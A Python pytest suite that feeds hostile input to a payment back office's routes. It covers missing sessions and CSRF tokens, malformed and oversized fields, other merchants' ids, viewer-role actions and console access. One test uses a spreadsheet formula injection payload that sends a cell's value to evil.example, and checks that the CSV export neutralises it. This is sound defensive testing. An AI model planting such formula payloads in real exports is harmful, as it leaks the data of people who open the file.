"""Hostile input to every back office route: no or bad session, no CSRF token, malformed and
huge values, unknown ids, another merchant's ids, the other mode's, a viewer acting. Each gets
a readable error page with the right status, never a 500 and never a change."""

from __future__ import annotations

import csv
import io

import aiohttp
import asyncpg
import pytest
from aiohttp.test_utils import TestClient

from config.settings import Settings
from engine.merchants import keys
from engine.models import Status
from engine.store.repository import Repository
from engine.webhooks import signing
from tests.backoffice.support import PASSWORD, csrf_of, log_in, make_user

A, B = "shop_a", "shop_b"
TID_SHAPE = "DUMMY_20260101_00000000"
# Every state-changing route, with a form that would be valid apart from what is tested.
POSTS = [
    ("/backoffice/logout", {}),
    ("/backoffice/logout-everywhere", {}),
    ("/backoffice/mode", {"mode": "live"}),
    ("/backoffice/views", {"name": "v", "query": "kind=refund"}),
    ("/backoffice/views/delete", {"id": "1"}),
    (f"/backoffice/payments/{TID_SHAPE}/cancel", {}),
    (
        f"/backoffice/payments/{TID_SHAPE}/refund",
        {"amount": "1", "reason": "r", "key": "bo_" + "k" * 20},
    ),
    (f"/backoffice/payments/{TID_SHAPE}/resend", {}),
    ("/backoffice/keys", {"name": "k"}),
    ("/backoffice/keys/1/roll", {"grace": "0"}),
    ("/backoffice/keys/1/revoke", {}),
    ("/backoffice/endpoints", {"url": "https://shop.example/hook"}),
    ("/backoffice/endpoints/1/roll", {"grace": "0"}),
    ("/backoffice/endpoints/1/delete", {}),
    ("/backoffice/endpoints/1/test", {}),
    ("/backoffice/deliveries/resend", {}),
    ("/backoffice/deliveries/1/resend", {}),
]
PAGES = [
    "/backoffice/payments",
    "/backoffice/payments.csv",
    "/backoffice/developers",
    "/backoffice/deliveries",
    f"/backoffice/payments/{TID_SHAPE}",
]


def _page(resp: aiohttp.ClientResponse, status: int) -> None:
    assert resp.status == status, (resp.url, resp.status)
    assert resp.content_type == "text/html", resp.content_type


async def _admin(web: TestClient, pool: asyncpg.Pool, email: str = "a@a.example") -> str:
    await make_user(pool, email, "admin", A)
    return await log_in(web, email)


async def test_without_a_session_pages_go_to_login_and_forms_are_refused(web: TestClient) -> None:
    for path in PAGES:
        resp = await web.get(path, allow_redirects=False)
        assert resp.status == 303 and resp.headers["Location"].startswith("/backoffice/login?next=")
    web.session.cookie_jar.update_cookies({"bo_session": "x" * 5000})
    assert (await web.get(PAGES[0], allow_redirects=False)).status == 303
    for path, data in POSTS:
        _page(await web.post(path, data=data), 401)
    # htmx is told where to go instead of swapping the login page into a table.
    resp = await web.get(PAGES[0], headers={"HX-Request": "true"}, allow_redirects=False)
    assert resp.status == 200 and resp.headers["HX-Redirect"].startswith("/backoffice/login")


async def test_every_form_needs_the_csrf_token(web: TestClient, pool: asyncpg.Pool) -> None:
    csrf = await _admin(web, pool)
    for path, data in POSTS:
        _page(await web.post(path, data=data), 403)
        _page(await web.post(path, data=data | {"csrf": csrf[:-1]}), 403)
    # The header htmx sends counts as the token.
    resp = await web.post(
        "/backoffice/mode",
        data={"mode": "live"},
        headers={"X-CSRF-Token": csrf},
        allow_redirects=False,
    )
    assert resp.status == 303


@pytest.mark.parametrize(
    "query",
    [
        "q=" + "x" * 5000,
        "q=%00",
        "from=yesterday",
        "from=2026-02-30",
        "to=9999-12-31",
        "from=2026-01-02&to=2026-01-01",
        "minAmount=-1",
        "minAmount=" + "9" * 30,
        "minAmount=10&maxAmount=5",
        "status=NOPE",
        "kind=payment,nope",
        "cursor=garbage",
        "cursor=" + "A" * 3000,
        "from=2026-01-01&from=2026-01-02",
    ],
)
async def test_bad_filters_are_named(web: TestClient, pool: asyncpg.Pool, query: str) -> None:
    await _admin(web, pool)
    # The export walks every page: it takes no cursor (and ignores one).
    paths = ["/backoffice/payments"] + ([] if "cursor" in query else ["/backoffice/payments.csv"])
    for path in paths:
        _page(await web.get(f"{path}?{query}"), 422)


async def test_malformed_forms(web: TestClient, pool: asyncpg.Pool, settings: Settings) -> None:
    csrf = await _admin(web, pool)
    repo = Repository(pool)
    key = (await repo.merchants.issue_key(A, "test", settings.api_key_secret)).key
    async with (
        aiohttp.ClientSession() as http,
        http.post(
            str(web.make_url("/api/payments")),
            json={"userPublicId": "U", "orderId": "O1", "amount": 5000, "echo": {"mid": A}},
            headers={"Authorization": f"Bearer {key}"},
        ) as resp,
    ):
        tid = (await resp.json())["transactionId"]
    await repo.payments.settle_manual(tid, A, Status.SUCCESS, "AP1", None, actor="t")
    refund = f"/backoffice/payments/{tid}/refund"
    good = {"csrf": csrf, "amount": "100", "reason": "broken", "key": "bo_" + "k" * 20}
    for change in (
        {"amount": "abc"},
        {"amount": "-1"},
        {"amount": "0"},
        {"amount": "9" * 40},
        {"amount": "1e3"},
        {"reason": ""},
        {"reason": "x" * 501},
        {"reason": "a\x00b"},
        {"key": ""},
        {"key": "not-ours"},
    ):
        _page(await web.post(refund, data=good | change), 422)
    _page(await web.post(refund, data=good | {"amount": "5001"}), 409)  # more than captured
    for path, data in (
        ("/backoffice/mode", {"mode": "prod"}),
        ("/backoffice/views", {"name": "", "query": ""}),
        ("/backoffice/views", {"name": "v", "query": "status=NOPE"}),
        ("/backoffice/views", {"name": "v" * 81, "query": ""}),
        ("/backoffice/keys", {"name": ""}),
        ("/backoffice/keys", {"name": "k", "expires": "2020-01-01"}),
        ("/backoffice/keys", {"name": "k", "expires": "tomorrow"}),
        ("/backoffice/endpoints", {"url": "not a url"}),
        ("/backoffice/endpoints", {"url": "http://10.0.0.1/x"}),
        ("/backoffice/deliveries/resend", {"state": "gone"}),
        ("/backoffice/deliveries/resend", {"eventId": "a b"}),
    ):
        _page(await web.post(path, data=data | {"csrf": csrf}), 422)
    _page(await web.post("/backoffice/language", data={"lang": "fr", "csrf": csrf}), 422)
    # A file where a field belongs, and a body larger than the server takes.
    form = aiohttp.FormData({"csrf": csrf, "name": "k"})
    form.add_field("upload", b"data", filename="x.txt")
    _page(await web.post("/backoffice/keys", data=form), 400)
    _page(await web.post("/backoffice/keys", data={"csrf": csrf, "name": "x" * 200_000}), 413)


async def test_the_csv_export_disarms_formulas_a_merchant_or_customer_wrote(
    web: TestClient, pool: asyncpg.Pool, settings: Settings
) -> None:
    await _admin(web, pool)
    key = (await Repository(pool).merchants.issue_key(A, "test", settings.api_key_secret)).key
    name = '=HYPERLINK("http://evil.example/?leak="&A1,"Refund here")'
    async with aiohttp.ClientSession() as http:
        for order, customer, order_name, amount in (
            ("-ORD-1", "@cust", name, 5000),
            ("ORD-2", "+82 10 1234 5678", "Blue mug; =1+1", 120),
        ):
            async with http.post(
                str(web.make_url("/api/payments")),
                json={
                    "userPublicId": customer,
                    "orderId": order,
                    "orderName": order_name,
                    "amount": amount,
                    "echo": {"mid": A},
                },
                headers={"Authorization": f"Bearer {key}"},
            ) as resp:
                assert resp.status == 202, await resp.text()
    resp = await web.get("/backoffice/payments.csv")
    assert resp.status == 200 and resp.content_type == "text/csv"
    text = await resp.text()
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [(r["order_id"], r["customer_id"], r["order_name"], r["amount"]) for r in rows] == [
        ("ORD-2", "'+82 10 1234 5678", "Blue mug; =1+1", "120"),
        ("'-ORD-1", "'@cust", "'" + name, "5000"),
    ]
    # Amounts bare, every other cell quoted (a ; inside a name starts no cell anywhere).
    assert text.splitlines()[1].split(",")[6] == "120"
    assert '"Blue mug; =1+1"' in text


async def test_unknown_and_other_merchants_and_other_modes_ids(
    web: TestClient, pool: asyncpg.Pool, settings: Settings
) -> None:
    csrf = await _admin(web, pool)
    repo = Repository(pool)
    await repo.merchants.create_merchant(B, "B")
    b_key = await repo.merchants.issue_key(B, "test", settings.api_key_secret)
    a_live = await repo.merchants.issue_key(A, "live", settings.api_key_secret)
    b_endpoint = await repo.endpoints.add_endpoint(
        B, "test", "https://b.example/h", signing.new_secret()
    )
    a_live_endpoint = await repo.endpoints.add_endpoint(
        A, "live", "https://a.example/h", signing.new_secret()
    )
    assert b_endpoint and a_live_endpoint
    for key_id in (b_key.id, a_live.id, 999_999, "abc", "1" * 30):
        for action in ("roll", "revoke"):
            _page(
                await web.post(
                    f"/backoffice/keys/{key_id}/{action}", data={"csrf": csrf, "grace": "0"}
                ),
                404,
            )
    for endpoint_id in (b_endpoint.id, a_live_endpoint.id, 999_999, "x"):
        for action in ("roll", "delete", "test"):
            _page(
                await web.post(
                    f"/backoffice/endpoints/{endpoint_id}/{action}",
                    data={"csrf": csrf, "grace": "0"},
                ),
                404,
            )
    for tid in ("nope", TID_SHAPE, "x" * 500):
        _page(await web.get(f"/backoffice/payments/{tid}"), 404)
        for action in ("cancel", "resend"):
            _page(await web.post(f"/backoffice/payments/{tid}/{action}", data={"csrf": csrf}), 404)
    for delivery_id in ("0", "999999", "x"):
        _page(
            await web.post(f"/backoffice/deliveries/{delivery_id}/resend", data={"csrf": csrf}), 404
        )
    _page(await web.post("/backoffice/views/delete", data={"csrf": csrf, "id": "abc"}), 404)
    _page(await web.get("/backoffice/nowhere"), 404)
    _page(await web.get("/backoffice/console/merchants"), 404)  # a merchant user: no console
    # B's key and endpoint are untouched.
    found = await repo.merchants.authenticate(keys.key_hash(settings.api_key_secret, b_key.key))
    assert (
        found is not None
        and found.active
        and await repo.endpoints.endpoint(B, "test", b_endpoint.id)
    )


async def test_a_viewer_can_act_on_nothing(web: TestClient, pool: asyncpg.Pool) -> None:
    await make_user(pool, "v@a.example", "viewer", A)
    csrf = await log_in(web, "v@a.example")
    for path, data in POSTS[5:]:  # the merchant's things, not the viewer's own
        _page(await web.post(path, data=data | {"csrf": csrf}), 403)
    # Reading is fine, and saving a view of one's own is not acting on the merchant.
    assert (await web.get("/backoffice/developers")).status == 200
    resp = await web.post(
        "/backoffice/views", data={"csrf": csrf, "name": "v", "query": ""}, allow_redirects=False
    )
    assert resp.status == 303


async def test_an_operator_sees_no_merchant_pages(web: TestClient, pool: asyncpg.Pool) -> None:
    await _operator(web, pool)
    for path in PAGES:
        _page(await web.get(path), 404)


CONSOLE_POSTS = [
    ("/backoffice/console/recovery/release", {"provider": "card", "mode": "live"}),
    (f"/backoffice/console/payments/{TID_SHAPE}/inquire", {}),
    (f"/backoffice/console/payments/{TID_SHAPE}/resolve", {"status": "SUCCESS", "reason": "r"}),
    ("/backoffice/console/merchants", {"mid": "m_new", "name": "New"}),
    (f"/backoffice/console/merchants/{A}/suspend", {"reason": "r"}),
    (f"/backoffice/console/merchants/{A}/resume", {}),
]


async def _operator(web: TestClient, pool: asyncpg.Pool) -> str:
    await make_user(pool, "op@hamster.example", "operator", None)
    await make_user(pool, "a@a.example", "admin", A)  # makes merchant A
    page = await web.get("/backoffice/login")
    resp = await web.post(
        "/backoffice/login",
        data={
            "email": "op@hamster.example",
            "password": PASSWORD,
            "csrf": csrf_of(await page.text()),
        },
    )
    assert resp.status == 200 and resp.url.path.startswith("/backoffice/console/")
    return csrf_of(await resp.text())


async def test_console_forms_need_csrf_and_refuse_bad_input(
    web: TestClient, pool: asyncpg.Pool
) -> None:
    csrf = await _operator(web, pool)
    for path, data in CONSOLE_POSTS:
        _page(await web.post(path, data=data), 403)
    resolve = f"/backoffice/console/payments/{TID_SHAPE}/resolve"
    for data, status in (
        ({"status": "MAYBE", "reason": "r"}, 422),
        ({"status": "SUCCESS", "reason": ""}, 422),
        ({"status": "SUCCESS", "reason": "x" * 1001}, 422),
        ({"status": "SUCCESS", "reason": "r"}, 404),  # no such payment
    ):
        _page(await web.post(resolve, data=data | {"csrf": csrf}), status)
    for path, data, status in (
        ("/backoffice/console/payments/nope/resolve", {"status": "SUCCESS", "reason": "r"}, 404),
        ("/backoffice/console/payments/nope/inquire", {}, 404),
        (f"/backoffice/console/payments/{TID_SHAPE}/inquire", {}, 404),
        ("/backoffice/console/recovery/release", {"provider": "card", "mode": "prod"}, 422),
        ("/backoffice/console/merchants", {"mid": "bad mid!", "name": "x"}, 422),
        ("/backoffice/console/merchants", {"mid": A, "name": "taken"}, 422),
        ("/backoffice/console/merchants/nobody/suspend", {"reason": "r"}, 404),
        (f"/backoffice/console/merchants/{A}/suspend", {"reason": ""}, 422),
        (f"/backoffice/console/merchants/{A}/resume", {}, 409),  # not suspended
    ):
        _page(await web.post(path, data=data | {"csrf": csrf}), status)
    for query in ("after=abc", "after=" + "9" * 30):
        _page(await web.get(f"/backoffice/console/recovery?{query}"), 422)
        _page(await web.get(f"/backoffice/console/merchants?{query}"), 422)
    _page(await web.get("/backoffice/console/audit?after=garbage"), 422)
    _page(await web.get("/backoffice/console/merchants?q=" + "x" * 500), 422)
    assert (await web.get("/backoffice/console/payments?q=" + "x" * 5000)).status in (200, 422)
    assert await pool.fetchval("SELECT count(*) FROM operator_audit") == 0  # nothing changed


async def test_merchant_users_have_no_console(web: TestClient, pool: asyncpg.Pool) -> None:
    csrf = await _admin(web, pool)
    for path in (
        "/backoffice/console",
        "/backoffice/console/recovery",
        "/backoffice/console/audit",
    ):
        _page(await web.get(path), 404)
    for path, data in CONSOLE_POSTS:
        _page(await web.post(path, data=data | {"csrf": csrf}), 404)
